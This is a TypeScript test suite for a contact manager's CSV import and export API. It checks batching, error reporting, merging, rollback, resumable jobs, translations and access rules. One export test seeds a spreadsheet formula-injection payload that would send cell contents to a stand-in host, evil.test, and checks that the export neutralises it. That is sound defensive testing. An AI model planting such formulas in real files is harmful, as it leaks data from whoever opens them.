import { parse } from 'csv-parse/sync';
import { and, count, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../src/core/actor';
import { contactImports } from '../../src/contacts/import.schema';
import {
  createContactImport,
  resumableContactImportIds,
  runContactImport,
  type ContactImportRow,
} from '../../src/contacts/import.service';
import { contactRowProblemText } from '../../src/contacts/import-problems';
import { contacts } from '../../src/contacts/schema';
import { translatorFor } from '../../src/core/i18n/translator';
import { releaseOwnLeases } from '../../src/jobs/leases';
import { createTestContext, type TestContext } from '../helpers/test-app';

let t: TestContext;
type Workspace = Awaited<ReturnType<TestContext['seedWorkspace']>>;
let big: Workspace;
let ws: Workspace;

beforeAll(async () => {
  t = await createTestContext();
  big = await t.seedWorkspace('Big Import');
  ws = await t.seedWorkspace('Transfer');
});
afterAll(() => t.close());

const actorOf = (w: Workspace): Actor => ({
  workspaceId: w.workspace.id,
  workspaceSlug: w.workspace.slug,
  userId: w.owner.id,
  apiKeyId: null,
  role: 'owner',
  ip: null,
});
const postImport = (w: Workspace, content: string, extra: Record<string, unknown> = {}) =>
  t.request('POST', '/api/v1/contacts/import', {
    token: w.token,
    body: { filename: 'contacts.csv', content, ...extra },
  });
const contactCount = async (w: Workspace) =>
  Number((await t.db.select({ n: count() }).from(contacts).where(eq(contacts.workspaceId, w.workspace.id)))[0]!.n);
const contactByEmail = async (w: Workspace, email: string) =>
  (
    await t.db
      .select()
      .from(contacts)
      .where(and(eq(contacts.workspaceId, w.workspace.id), sql`${email} = any(${contacts.emails})`))
  )[0];

/** Polls the import until it ends, keeping every state it saw on the way. */
async function waitDone(w: Workspace, id: string) {
  const seen: { status: string; processed: number }[] = [];
  for (;;) {
    const res = await t.request('GET', `/api/v1/contacts/imports/${id}`, { token: w.token });
    expect(res.status).toBe(200);
    seen.push({ status: res.json.status, processed: res.json.processed });
    if (res.json.status === 'done' || res.json.status === 'failed') return { ...res.json, seen };
    await new Promise((r) => setTimeout(r, 5));
  }
}

// Every 200th row from the 8th on is bad, in one of five ways.
const BAD = Array.from({ length: 50 }, (_, k) => k * 200 + 7);
const BAD_KINDS = [
  (i: number) => [`Bad${i}`, 'Email', `person${i}@`, '+1 555 0100', 'lead'],
  (i: number) => [`Bad${i}`, 'Stage', `stage${i}@example.test`, '', 'prospect'],
  () => ['', '', '', '+1 555 0100', 'lead'],
  (i: number) => [`Bad${i}`, 'Phone', `phone${i}@example.test`, 'n/a', 'lead'],
  (i: number) => ['x'.repeat(301), 'Long', `long${i}@example.test`, '', 'lead'],
];
const BAD_MESSAGES = [
  (i: number) => `"person${i}@": not an email address (column Email)`,
  () =>
    'unknown lifecycle stage "prospect" (column Lifecycle Stage); ' +
    'known: subscriber, lead, customer, advocate, detractor, other',
  () => 'no name and no email',
  () => '"n/a": not a phone number (column Phone Number)',
  () => 'longer than 300 characters (column First Name)',
];

const BAD_CODES = ['not_email', 'unknown_stage', 'no_name_or_email', 'not_phone', 'too_long'];

function bigCsv(rows: number) {
  const lines = ['First Name,Last Name,Email,Phone Number,Lifecycle Stage,Notes'];
  for (let i = 0; i < rows; i++) {
    const bad = BAD.indexOf(i);
    const cells =
      bad >= 0
        ? BAD_KINDS[bad % 5]!(i)
        : [
            `Person`,
            `${i}`,
            `person${i}@example.test`,
            `+1 555 ${String(i).padStart(4, '0')}`,
            i % 3 ? 'Lead' : 'customer',
          ];
    lines.push(
      [
        ...cells,
        `"Met at the ${i % 7 ? 'spring' : 'autumn'} fair, said ""call me in a month"", likes the blue plan"`,
      ].join(','),
    );
  }
  return `${lines.join('\r\n')}\r\n`;
}

/**
 * The 10,000-row import into workspace `big`, run once per file by whichever test needs it first, so each test
 * also passes alone. No time budget: a loaded machine is slow, not wrong; the timing is `npm run bench`.
 */
let bigImport:
  | Promise<{ accepted: Awaited<ReturnType<typeof postImport>>; done: Awaited<ReturnType<typeof waitDone>> }>
  | undefined;
const bigImportOnce = () =>
  (bigImport ??= (async () => {
    const accepted = await postImport(big, bigCsv(10_000), { mapping: { 'custom:notes': 'Notes' } });
    return { accepted, done: await waitDone(big, accepted.json.id) };
  })());
const SLOW = 180_000;

describe('importing contacts from a CSV', () => {
  it(
    'imports 9,950 of a 10,000-row CSV with 50 bad rows, reports the 50 by line and shows progress',
    async () => {
      expect(bigCsv(10_000).length).toBeGreaterThan(1024 * 1024); // over the 1 MiB limit other routes have
      const { accepted, done } = await bigImportOnce();
      expect(accepted.status).toBe(202);
      expect(accepted.json).toMatchObject({
        status: 'queued',
        mapping: {
          firstName: 'First Name',
          lastName: 'Last Name',
          email: 'Email',
          phone: 'Phone Number',
          lifecycleStage: 'Lifecycle Stage',
          'custom:notes': 'Notes',
        },
      });

      expect(done).toMatchObject({
        status: 'done',
        total: 10_000,
        processed: 10_000,
        imported: 9_950,
        merged: 0,
        failed: 50,
        progress: 100,
        error: null,
      });
      // The header is line 1, so row i sits on line i + 2.
      expect(done.errors.map((e: { line: number }) => e.line)).toEqual(BAD.map((i) => i + 2));
      expect(done.errors).toEqual(
        BAD.map((i, k) => ({ line: i + 2, message: BAD_MESSAGES[k % 5]!(i), code: BAD_CODES[k % 5] })),
      );
      // Progress only ever goes up while it runs, and the poller saw it between start and end.
      const processed = done.seen.map((s: { processed: number }) => s.processed);
      expect(processed).toEqual([...processed].sort((a, b) => a - b));
      expect(
        done.seen.some(
          (s: { status: string; processed: number }) =>
            s.status === 'running' && s.processed > 0 && s.processed < 10_000,
        ),
      ).toBe(true);

      expect(await contactCount(big)).toBe(9_950);
      expect(await contactByEmail(big, 'person42@example.test')).toMatchObject({
        name: 'Person 42',
        phones: ['+1 555 0042'],
        lifecycleStage: 'customer',
        customFields: { notes: 'Met at the autumn fair, said "call me in a month", likes the blue plan' },
      });
      expect((await contactByEmail(big, 'person43@example.test'))?.lifecycleStage).toBe('lead');
      expect(await contactByEmail(big, 'stage207@example.test')).toBeUndefined();
    },
    SLOW,
  );

  it('saves progress after every batch it validates, before anything is written', async () => {
    const w = await t.seedWorkspace('Progress');
    const csv = ['name,email', ...Array.from({ length: 2_000 }, (_, i) => `P ${i},p${i}@example.test`)].join('\n');
    const row = await createContactImport(t.db, actorOf(w), { filename: 'p.csv', content: csv });
    const steps: { status: string; processed: number; contacts: number }[] = [];
    const pending: Promise<void>[] = [];
    const done = await runContactImport(t.deps, actorOf(w), row.id, {
      batchSize: 500,
      onProgress: (r: ContactImportRow) => {
        steps.push({ status: r.status, processed: r.processed, contacts: -1 });
        const step = steps.at(-1)!;
        pending.push(
          contactCount(w).then((n) => {
            step.contacts = n;
          }),
        );
      },
    });
    await Promise.all(pending);
    expect(steps.map((s) => [s.status, s.processed])).toEqual([
      ['running', 0],
      ['running', 500],
      ['running', 1000],
      ['running', 1500],
      ['running', 2000],
      ['done', 2000],
    ]);
    expect(done).toMatchObject({ status: 'done', imported: 2_000 });
    expect(await runContactImport(t.deps, actorOf(w), row.id)).toBeNull();
  });

  it('reads a HubSpot export by its column names', async () => {
    const csv = [
      'Record ID,First Name,Last Name,Email,Phone Number,Company Name,Job Title,Lifecycle Stage,City,Create Date',
      '101,Ana,Silva,Ana.Silva@Example.test,+351 21 000 0000,Acme,Head of Support,Customer,Lisbon,2024-01-02',
      '102,Bo,Lind,bo@example.test;bo.lind@home.test,,Globex,CTO,Lead,,2024-02-03',
    ].join('\r\n');
    const res = await postImport(ws, csv);
    expect(res.json.mapping).toEqual({
      firstName: 'First Name',
      lastName: 'Last Name',
      email: 'Email',
      phone: 'Phone Number',
      company: 'Company Name',
      title: 'Job Title',
      lifecycleStage: 'Lifecycle Stage',
      location: 'City',
    });
    expect(await waitDone(ws, res.json.id)).toMatchObject({ status: 'done', imported: 2, failed: 0 });
    const list = await t.request('GET', '/api/v1/contacts?q=silva', { token: ws.token });
    expect(list.json.items).toEqual([
      expect.objectContaining({
        name: 'Ana Silva',
        emails: ['ana.silva@example.test'],
        phones: ['+351 21 000 0000'],
        company: 'Acme',
        title: 'Head of Support',
        lifecycleStage: 'customer',
        location: 'Lisbon',
      }),
    ]);
    expect(await contactByEmail(ws, 'bo.lind@home.test')).toMatchObject({
      name: 'Bo Lind',
      emails: ['bo@example.test', 'bo.lind@home.test'],
      lifecycleStage: 'lead',
      customFields: {},
    });
  });

  it('adds a row to the existing contact with its email, not a new one; repeated rows make one contact', async () => {
    const existing = await t.request('POST', '/api/v1/contacts', {
      token: ws.token,
      body: {
        name: 'Dana Ruiz',
        emails: ['dana@work.test'],
        company: 'Initech',
        tags: ['vip'],
        customFields: { plan: 'pro' },
      },
    });
    const before = await contactCount(ws);
    const csv = [
      'Name,Email,Company,Title,Tags,Plan,Region',
      'D. Ruiz,DANA@work.test; dana@home.test,Other Co,CTO,beta,free,eu',
      'Eve Stone,eve@example.test,,,,,',
      'Eve S.,eve@example.test,Hooli,Engineer,,,',
    ].join('\n');
    const res = await postImport(ws, csv, {
      mapping: { tags: 'Tags', 'custom:plan': 'Plan', 'custom:region': 'Region' },
    });
    expect(await waitDone(ws, res.json.id)).toMatchObject({
      status: 'done',
      total: 3,
      imported: 1,
      merged: 2,
      failed: 0,
    });
    expect(await contactCount(ws)).toBe(before + 1);
    const dana = await t.request('GET', `/api/v1/contacts/${existing.json.id}`, { token: ws.token });
    expect(dana.json).toMatchObject({
      name: 'Dana Ruiz',
      company: 'Initech',
      title: 'CTO',
      emails: ['dana@work.test', 'dana@home.test'],
      tags: ['vip', 'beta'],
      customFields: { plan: 'pro', region: 'eu' },
    });
    expect(await contactByEmail(ws, 'eve@example.test')).toMatchObject({
      name: 'Eve Stone',
      company: 'Hooli',
      title: 'Engineer',
    });
  });

  it('imports nothing, not even the rows written before it, when the final write fails', async () => {
    const w = await t.seedWorkspace('Rollback');
    const dana = await t.request('POST', '/api/v1/contacts', {
      token: w.token,
      body: { name: 'Dana Ruiz', emails: ['dana@work.test'] },
    });
    // The database refuses one contact: the write has already inserted the earlier chunks by then.
    await t.db.execute(
      sql.raw(`create function refuse_test_contact() returns trigger language plpgsql as $$
      begin
        if new.name = 'Refuse Me' then raise exception 'contact refused by the database'; end if;
        return new;
      end $$`),
    );
    await t.db.execute(
      sql.raw(
        'create trigger refuse_test_contact before insert on contacts ' +
          'for each row execute function refuse_test_contact()',
      ),
    );
    try {
      const csv = [
        'name,email,title',
        'Dana,dana@work.test,CTO',
        ...Array.from({ length: 300 }, (_, i) => `Row ${i},r${i}@example.test,`),
        'Refuse Me,refuse@example.test,',
      ].join('\n');
      const row = await createContactImport(t.db, actorOf(w), { filename: 'r.csv', content: csv });
      const done = await runContactImport(t.deps, actorOf(w), row.id, { writeChunk: 100 });
      expect(done).toMatchObject({ status: 'failed', processed: 302, imported: 0, merged: 0 });
      // A short sentence for staff: the database's code, never its statement or the row's values.
      expect(done!.error).toBe(`The contact import failed (database error P0001); see the log, ref ${row.id}`);
      expect(await contactCount(w)).toBe(1);
      expect((await t.request('GET', `/api/v1/contacts/${dana.json.id}`, { token: w.token })).json.title).toBeNull();
      expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: w.token })).json).toMatchObject({
        status: 'failed',
        error: expect.stringMatching(/database error P0001/),
      });
    } finally {
      await t.db.execute(sql.raw('drop trigger refuse_test_contact on contacts'));
      await t.db.execute(sql.raw('drop function refuse_test_contact()'));
    }
  });

  it('keeps the first 1,000 bad rows in the report and counts them all', async () => {
    const w = await t.seedWorkspace('Many Bad');
    const csv = [
      'name,email,phone',
      'Good,good@example.test,',
      ...Array.from({ length: 1_200 }, () => ',,+1 555 0100'),
    ].join('\n');
    const row = await createContactImport(t.db, actorOf(w), { filename: 'bad.csv', content: csv });
    const done = await runContactImport(t.deps, actorOf(w), row.id);
    expect(done).toMatchObject({ status: 'done', total: 1_201, imported: 1, failed: 1_200 });
    expect(done!.errors).toHaveLength(1_000);
    expect(done!.errors.at(-1)).toMatchObject({ line: 1_002, message: 'no name and no email' });
  });

  it('keeps each bad row as a code and values, in German to a German reader and in English to the API', async () => {
    const w = await t.seedWorkspace('German Rows');
    const csv = [
      'Name,E-Mail,Telefon,Phase',
      'Ana,ana@,,',
      'Bo,bo@example.test,n/a,',
      'Cy,cy@example.test,,prospect',
      ',,+1 555 0100,',
    ].join('\n');
    const row = await createContactImport(t.db, actorOf(w), {
      filename: 'kontakte.csv',
      content: csv,
      mapping: { email: 'E-Mail', phone: 'Telefon', lifecycleStage: 'Phase' },
    });
    const done = await runContactImport(t.deps, actorOf(w), row.id);
    const de = translatorFor('de');
    expect(done!.errors.map((e) => contactRowProblemText(de, e))).toEqual([
      '"ana@": keine E-Mail-Adresse (Spalte E-Mail)',
      '"n/a": keine Telefonnummer (Spalte Telefon)',
      'unbekannte Lebenszyklus-Phase "prospect" (Spalte Phase); bekannt: ' +
        'subscriber, lead, customer, advocate, detractor, other',
      'weder Name noch E-Mail-Adresse',
    ]);
    // The API says the same rows in English, with their codes, whatever language its client reads.
    const res = await t.request('GET', `/api/v1/contacts/imports/${row.id}`, {
      token: w.token,
      headers: { 'accept-language': 'de' },
    });
    expect(res.json.errors).toEqual([
      { line: 2, message: '"ana@": not an email address (column E-Mail)', code: 'not_email' },
      { line: 3, message: '"n/a": not a phone number (column Telefon)', code: 'not_phone' },
      {
        line: 4,
        message:
          'unknown lifecycle stage "prospect" (column Phase); known: ' +
          'subscriber, lead, customer, advocate, detractor, other',
        code: 'unknown_stage',
      },
      { line: 5, message: 'no name and no email', code: 'no_name_or_email' },
    ]);
    // A row stored before the codes keeps its English.
    expect(contactRowProblemText(de, { line: 2, message: 'not an email address' })).toBe('not an email address');
  });

  it('fails a broken CSV with the reason and imports nothing', async () => {
    const before = await contactCount(ws);
    const res = await postImport(ws, 'name,email\nOk,ok@broken.test\n"Unclosed,x@broken.test\n');
    expect(res.status).toBe(202);
    expect(await waitDone(ws, res.json.id)).toMatchObject({
      status: 'failed',
      error: expect.stringMatching(/not valid CSV: Quote Not Closed/),
    });
    expect(await contactCount(ws)).toBe(before);
  });

  it.each([
    ['no content', { filename: 'a.csv' }, 'VALIDATION_FAILED'],
    ['empty content', { filename: 'a.csv', content: '' }, 'VALIDATION_FAILED'],
    [
      'an unknown field in the mapping',
      { filename: 'a.csv', content: 'name\nAna\n', mapping: { colour: 'name' } },
      'VALIDATION_FAILED',
    ],
    [
      'a mapping to a column the file lacks',
      { filename: 'a.csv', content: 'name\nAna\n', mapping: { email: 'E-mail' } },
      'CONTACT_IMPORT_COLUMN_MISSING',
    ],
    [
      'a file with neither a name nor an email column',
      { filename: 'a.csv', content: 'company,phone\nAcme,+1 555 0100\n' },
      'CONTACT_IMPORT_NEEDS_NAME_OR_EMAIL',
    ],
    ['an unknown key', { filename: 'a.csv', content: 'name\nAna\n', format: 'xlsx' }, 'VALIDATION_FAILED'],
  ])('answers 422 to %s', async (_what, body, code) => {
    const res = await t.request('POST', '/api/v1/contacts/import', { token: ws.token, body });
    expect(res.status).toBe(422);
    expect(res.json.error.code).toBe(code);
  });

  it('runs an import whose runner died again once its lease is free, and imports its rows once', async () => {
    const w = await t.seedWorkspace('Resumed');
    const csv = 'name,email\nAna,ana@resumed.test\nBo,bo@resumed.test\n';
    const row = await createContactImport(t.db, actorOf(w), { filename: 'lost.csv', content: csv });
    // What a runner killed mid-way leaves: running, half counted, its lease held by an instance that is gone.
    await t.db
      .update(contactImports)
      .set({
        status: 'running',
        processed: 1,
        leaseToken: 'dead',
        leaseHolder: 'node-a',
        leaseUntil: new Date(Date.now() + 60_000),
      })
      .where(eq(contactImports.id, row.id));
    expect(await resumableContactImportIds(t.db, new Date())).not.toContain(row.id);
    expect(await runContactImport(t.deps, null, row.id)).toBeNull();
    // node-a starts again and frees what it held; the resume job runs it.
    expect(await releaseOwnLeases({ db: t.db, clock: () => new Date() }, 'node-a')).toMatchObject({
      contactImports: 1,
    });
    expect(await resumableContactImportIds(t.db, new Date())).toContain(row.id);
    const done = await runContactImport(t.deps, null, row.id);
    expect(done).toMatchObject({
      status: 'done',
      total: 2,
      processed: 2,
      imported: 2,
      content: null,
      leaseToken: null,
    });
    expect(await contactCount(w)).toBe(2);
    expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: w.token })).json).toMatchObject({
      status: 'done',
      progress: 100,
    });
  });

  it('writes nothing when another runner took the import over before the write', async () => {
    const w = await t.seedWorkspace('Taken Over');
    const csv = ['name,email', ...Array.from({ length: 20 }, (_, i) => `P ${i},p${i}@taken.test`)].join('\n');
    const row = await createContactImport(t.db, actorOf(w), { filename: 't.csv', content: csv });
    // The rows are checked; another runner claims the import as they are about to be written.
    const db = new Proxy(t.db, {
      get(target, key, receiver) {
        if (key !== 'transaction') return Reflect.get(target, key, receiver);
        return async (...args: Parameters<typeof target.transaction>) => {
          await target.update(contactImports).set({ leaseToken: 'other' }).where(eq(contactImports.id, row.id));
          return target.transaction(...args);
        };
      },
    });
    const out = await runContactImport({ ...t.deps, db }, actorOf(w), row.id);
    expect(out).toMatchObject({ status: 'running', leaseToken: 'other', imported: 0, error: null });
    expect(await contactCount(w)).toBe(0);
  });

  it('answers 404 for an import id it does not know', async () => {
    expect(
      (await t.request('GET', `/api/v1/contacts/imports/${crypto.randomUUID()}`, { token: ws.token })).status,
    ).toBe(404);
  });
});

describe('exporting contacts as CSV', () => {
  it("exports exactly a segment's contacts, with custom fields, and neutralises formula names", async () => {
    const w = await t.seedWorkspace('Export');
    const make = (body: Record<string, unknown>) =>
      t.request('POST', '/api/v1/contacts', { token: w.token, body }).then((r) => r.json.id as string);
    const evil = await make({
      name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      emails: ['evil@example.test'],
      tags: ['vip'],
      customFields: { plan: 'pro' },
    });
    const ana = await make({
      name: 'Ana Silva',
      emails: ['ana@example.test', 'ana@home.test'],
      phones: ['+351 21 000 0000'],
      company: 'Acme',
      tags: ['vip', 'beta'],
      ownerId: w.owner.id,
      customFields: { region: 'eu' },
    });
    await make({ name: 'Not In Segment', emails: ['out@example.test'], tags: ['beta'] });
    const seg = await t.request('POST', '/api/v1/segments', {
      token: w.token,
      body: { name: 'VIPs', filter: { tags: ['vip'] } },
    });

    const res = await t.app.request(`/api/v1/contacts/export?segment=${seg.json.id}`, {
      headers: { authorization: `Bearer ${w.token}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await res.text();
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual([
      'id',
      'name',
      'emails',
      'phones',
      'company',
      'title',
      'location',
      'lifecycle_stage',
      'owner_email',
      'tags',
      'score',
      'followers',
      'sentiment',
      'first_touch_channel',
      'first_touch_at',
      'last_activity_at',
      'identities',
      'custom:plan',
      'custom:region',
    ]);
    const byId = new Map(rows.map((r) => [r[0], Object.fromEntries(header!.map((h, i) => [h, r[i]]))]));
    expect([...byId.keys()].sort()).toEqual([evil, ana].sort());
    expect(byId.get(evil)).toMatchObject({
      name: '\'=HYPERLINK("http://evil.test/?"&A1,"Click")',
      'custom:plan': 'pro',
      'custom:region': '',
    });
    expect(byId.get(ana)).toMatchObject({
      name: 'Ana Silva',
      emails: 'ana@example.test;ana@home.test',
      phones: "'+351 21 000 0000",
      company: 'Acme',
      owner_email: w.owner.email,
      tags: 'vip;beta',
      lifecycle_stage: 'subscriber',
      'custom:region': 'eu',
    });

    // The file reads back in: the apostrophes come off, custom:<key> columns become custom fields.
    const again = await t.seedWorkspace('Export Again');
    // Its owner is no teammate there: leave that column out.
    const imported = await postImport(again, text, { mapping: { ownerEmail: null } });
    expect(await waitDone(again, imported.json.id)).toMatchObject({ status: 'done', imported: 2, failed: 0 });
    expect(await contactByEmail(again, 'evil@example.test')).toMatchObject({
      name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      customFields: { plan: 'pro' },
    });
    expect(await contactByEmail(again, 'ana@home.test')).toMatchObject({
      phones: ['+351 21 000 0000'],
      tags: ['vip', 'beta'],
      customFields: { region: 'eu' },
    });
  });

  it(
    'exports every matching contact, not one page, and narrows by the list filters',
    async () => {
      await bigImportOnce();
      const res = await t.app.request('/api/v1/contacts/export', { headers: { authorization: `Bearer ${big.token}` } });
      const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(9_950);
      expect(new Set(rows.map((r) => r.id)).size).toBe(9_950);
      const customers = parse(
        await (
          await t.app.request('/api/v1/contacts/export?stage=customer', {
            headers: { authorization: `Bearer ${big.token}` },
          })
        ).text(),
        { columns: true },
      ) as Record<string, string>[];
      expect(customers.length).toBe(
        Array.from({ length: 10_000 }, (_, i) => i).filter((i) => i % 3 === 0 && !BAD.includes(i)).length,
      );
      expect(customers.every((r) => r.lifecycle_stage === 'customer')).toBe(true);
    },
    SLOW,
  );
});

describe('who may import and export', () => {
  it('refuses analysts (403): importing and exporting need contacts:write', async () => {
    const analyst = await t.seedUser(ws.workspace.id, 'analyst', 'analyst@transfer.test');
    const row = await createContactImport(t.db, actorOf(ws), { filename: 'a.csv', content: 'name\nAna\n' });
    expect(
      (
        await t.request('POST', '/api/v1/contacts/import', {
          token: analyst.token,
          body: { filename: 'a.csv', content: 'name\nAna\n' },
        })
      ).status,
    ).toBe(403);
    expect((await t.request('GET', '/api/v1/contacts/export', { token: analyst.token })).status).toBe(403);
    expect((await t.request('GET', `/api/v1/contacts/imports/${row.id}`, { token: analyst.token })).status).toBe(403);
    expect((await t.request('GET', '/api/v1/contacts/imports', { token: analyst.token })).status).toBe(403);
    expect((await t.request('GET', '/api/v1/contacts/export')).status).toBe(401);
  });
});
